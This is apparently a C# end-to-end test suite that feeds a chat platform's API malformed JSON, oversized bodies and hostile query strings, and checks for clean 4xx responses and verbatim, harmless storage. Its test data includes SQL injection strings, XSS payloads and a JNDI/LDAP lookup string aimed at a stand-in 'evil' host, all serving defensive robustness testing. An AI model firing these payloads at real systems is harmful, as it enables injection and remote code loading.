using System.Text;
using ChatPlatform.EndToEnd.Tests.Infrastructure;
using ChatPlatform.EndToEnd.Tests.Messages;
using ChatPlatform.EndToEnd.Tests.Sessions;
using static ChatPlatform.EndToEnd.Tests.Presence.PresenceClient;

namespace ChatPlatform.EndToEnd.Tests.Hostile;

/// <summary>
/// Hostile input through the gateway against the running system: every body-taking path gets malformed JSON, wrong
/// types and oversized bodies and answers with a problem, never a 500; odd but valid text is stored verbatim.
/// </summary>
[Collection(PlatformCollection.Name)]
public sealed class HostileRestTests(PlatformFixture platform)
{
    /// <summary>Every path that reads a JSON body, called by someone allowed to call it ({session} is theirs).</summary>
    public static TheoryData<string, string> BodyPaths => new()
    {
        { "POST", "/api/v1/auth/register" },
        { "POST", "/api/v1/auth/login" },
        { "POST", "/api/v1/auth/refresh" },
        { "PUT", "/api/v1/auth/users/{user}/roles" },
        { "POST", "/api/v1/chat/sessions" },
        { "POST", "/api/v1/chat/sessions/{throwaway}/close" },
        { "POST", "/api/v1/chat/sessions/{session}/participants" },
        { "POST", "/api/v1/chat/sessions/{session}/messages" },
        { "POST", "/api/v1/chat/sessions/{session}/mark-read" },
        { "POST", "/api/v1/chat/sessions/{session}/transfer" },
        { "PATCH", "/api/v1/chat/messages/{message}" },
        { "POST", "/api/v1/chat/messages/{message}/reactions" },
        { "POST", "/api/v1/chat/rooms" },
        { "POST", "/api/v1/chat/canned-responses" },
        { "PUT", "/api/v1/chat/notification-preferences" },
        { "POST", "/api/v1/chat/block" },
        { "POST", "/api/v1/chat/unblock" },
        { "POST", "/api/v1/chat/reports" },
    };

    private static readonly HashSet<string> OptionalBodyPaths =
        ["/api/v1/chat/sessions/{throwaway}/close", "/api/v1/chat/notification-preferences"];

    private static bool IsObjectOrNull(string body)
    {
        try
        {
            return JsonNode.Parse(body) is null or JsonObject;
        }
        catch (JsonException)
        {
            return false;
        }
    }

    private static readonly string[] MalformedBodies =
    [
        "{not json",
        "{\"title\":",
        "[1,2,3]",
        "\"just a string\"",
        "null",
        "{\"a\":1}}",
        "{\"title\":\"\\ud800\"}",
        "{\"\\udc00\":1,\"title\":\"t\",\"name\":\"n\"}",
        "{\"message_type\":\"text\",\"content\":\"\\ud83d\",\"metadata\":{\"k\":\"\\ud800\"},\"title\":\"\\ud800\"}",
        "{\"message_type\":\"text\",\"metadata\":{\"mentions\":[\"\\udfff\"]},\"emoji\":\"\\ud83d\"}",
        "{\"content\":\"nul \\u0000 inside\",\"title\":\"nul \\u0000\",\"message_type\":\"text\"}",
        "{\"title\":123,\"content\":[1],\"message_type\":{},\"up_to_seq\":\"abc\",\"user_id\":42,\"emoji\":false,\"roles\":\"admin\"}",
        "{\"user_id\":\"not-a-uuid\",\"message_id\":\"also-not\",\"agent_id\":\"x\",\"participant_ids\":\"x\"}",
        new string('[', 5000) + new string(']', 5000),
    ];

    [Theory]
    [MemberData(nameof(BodyPaths))]
    public async Task Malformed_and_mistyped_bodies_get_a_4xx_problem_and_never_a_500(string method, string template)
    {
        var context = await HostileContext.CreateAsync(platform);
        foreach (var body in MalformedBodies)
        {
            var response = await context.Caller.Http.SendAsync(new HttpRequestMessage(new HttpMethod(method), context.Fill(template))
            {
                Content = new StringContent(body, Encoding.UTF8, "application/json"),
            });

            var text = await response.Content.ReadAsStringAsync();
            var what = $"{method} {template} with {body[..Math.Min(body.Length, 60)]} answered {(int)response.StatusCode}: {text}";
            // Where every field is optional (close without feedback, preferences left at their defaults), a JSON
            // null or an object of unknown fields may fairly succeed; anything else must be refused.
            var mayPass = OptionalBodyPaths.Contains(template) && IsObjectOrNull(body);
            Assert.True((int)response.StatusCode is >= 400 and < 500 || (mayPass && response.IsSuccessStatusCode), what);
            if (!response.IsSuccessStatusCode)
            {
                Assert.True(response.Content.Headers.ContentType?.MediaType == "application/problem+json", what);
            }
        }
        await context.AssertStillWorkingAsync();
    }

    [Fact]
    public async Task A_body_over_the_limit_is_413_payload_too_large()
    {
        var context = await HostileContext.CreateAsync(platform);
        var huge = JsonSerializer.Serialize(new { message_type = "text", content = new string('x', 2 * 1024 * 1024), client_message_id = "huge" });

        var response = await context.Caller.Http.PostAsync(MessagesApi.MessagesPath(context.SessionId), new StringContent(huge, Encoding.UTF8, "application/json"));

        await ProblemAssert.IsProblemAsync(response, HttpStatusCode.RequestEntityTooLarge, "payload_too_large");
        await context.AssertStillWorkingAsync();
    }

    [Fact]
    public async Task Huge_strings_inside_the_limit_are_validation_errors()
    {
        var context = await HostileContext.CreateAsync(platform);
        var big = new string('y', 200_000);

        await ProblemAssert.IsProblemAsync(
            await context.Caller.Http.PostAsJsonAsync("/api/v1/chat/sessions", new { title = big }), HttpStatusCode.BadRequest, "validation_failed");
        await ProblemAssert.IsProblemAsync(
            await context.Caller.PostMessageAsync(context.SessionId, new { message_type = "text", content = big, client_message_id = "big" }),
            HttpStatusCode.BadRequest, "validation_failed");
        await ProblemAssert.IsProblemAsync(
            await context.Caller.Http.PostAsJsonAsync("/api/v1/chat/rooms", new { name = big }), HttpStatusCode.BadRequest, "validation_failed");
        await context.AssertStillWorkingAsync();
    }

    public static TheoryData<string> StrangeButValidTexts => new()
    {
        "'; DROP TABLE messages; --",
        "Robert'); DELETE FROM session_members WHERE ('1'='1",
        "<script>alert('xss')</script><img src=x onerror=alert(1)>",
        "{{7*7}} ${jndi:ldap://evil/a} %00 %s%s%n \\x00",
        "👩‍👩‍👧‍👦🏳️‍🌈 e\u0301 \u202Eevil\u202C \u200B\u200D\uFEFF 𝕳𝖊𝖑𝖑𝖔 \U0001F600",
        "مرحبا بالعالم שלום עולם 你好世界 Привет",
        "line1\nline2\r\n\ttabbed \"quoted\" back\\slash",
        "Z̷̢̛͔̖a̵̡͈͓l̴̨̧̛g̶̨̛o̸͍̜",
    };

    [Theory]
    [MemberData(nameof(StrangeButValidTexts))]
    public async Task Injection_and_unicode_text_is_stored_and_returned_verbatim_and_harmless(string text)
    {
        var context = await HostileContext.CreateAsync(platform);

        var session = await context.Caller.Http.PostAsJsonAsync("/api/v1/chat/sessions", new { title = text, kind = "group" });
        Assert.Equal(HttpStatusCode.Created, session.StatusCode);
        var sessionId = (await session.Content.ReadFromJsonAsync<JsonObject>())!.Id();
        var sent = await context.Caller.SendAsync(sessionId, text, "verbatim");

        Assert.Equal(text, sent["content"]!.GetValue<string>());
        Assert.Equal(text, (await context.Caller.GetJsonAsync($"/api/v1/chat/sessions/{sessionId}"))["title"]!.GetValue<string>());
        var history = await context.Caller.HistoryAsync(sessionId);
        var stored = history["items"]!.AsArray().Single(item => item!["id"]!.GetValue<string>() == sent.Id());
        Assert.Equal(text, stored!["content"]!.GetValue<string>());

        var search = await context.Caller.Http.GetAsync($"/api/v1/chat/search?q={Uri.EscapeDataString(text)}");
        Assert.Equal(HttpStatusCode.OK, search.StatusCode);
        Assert.Equal("application/json", search.Content.Headers.ContentType?.MediaType);
        await context.AssertStillWorkingAsync();
    }

    [Fact]
    public async Task Hostile_query_strings_are_refused_or_answered_never_500()
    {
        var context = await HostileContext.CreateAsync(platform);
        string[] queries =
        [
            $"/api/v1/chat/sessions/{context.SessionId}/messages?limit=-1",
            $"/api/v1/chat/sessions/{context.SessionId}/messages?limit=99999999999999999999",
            $"/api/v1/chat/sessions/{context.SessionId}/messages?before_seq=abc",
            $"/api/v1/chat/sessions/{context.SessionId}/messages?after_seq=-5&before_seq=9223372036854775807",
            "/api/v1/chat/sessions?limit=0&cursor=%00%FF%FE",
            "/api/v1/chat/sessions?cursor=' OR 1=1 --",
            "/api/v1/chat/search?q=%00",
            "/api/v1/chat/search?q=" + Uri.EscapeDataString("'); DROP TABLE messages; -- & | ! :* <->"),
            "/api/v1/chat/search?q=" + new string('a', 5_000),
            "/api/v1/chat/search?q=x&session_id=not-a-uuid",
            "/api/v1/chat/presence?user_ids=not-a-uuid,,%00",
            "/api/v1/chat/blocks?cursor=garbage&limit=abc",
            "/api/v1/chat/rooms?limit=201",
        ];

        foreach (var query in queries)
        {
            var response = await context.Caller.Http.GetAsync(query);
            var text = await response.Content.ReadAsStringAsync();
            Assert.True((int)response.StatusCode < 500, $"GET {query} answered {(int)response.StatusCode}: {text}");
            if (!response.IsSuccessStatusCode)
            {
                Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
            }
        }
        await context.AssertStillWorkingAsync();
    }
}
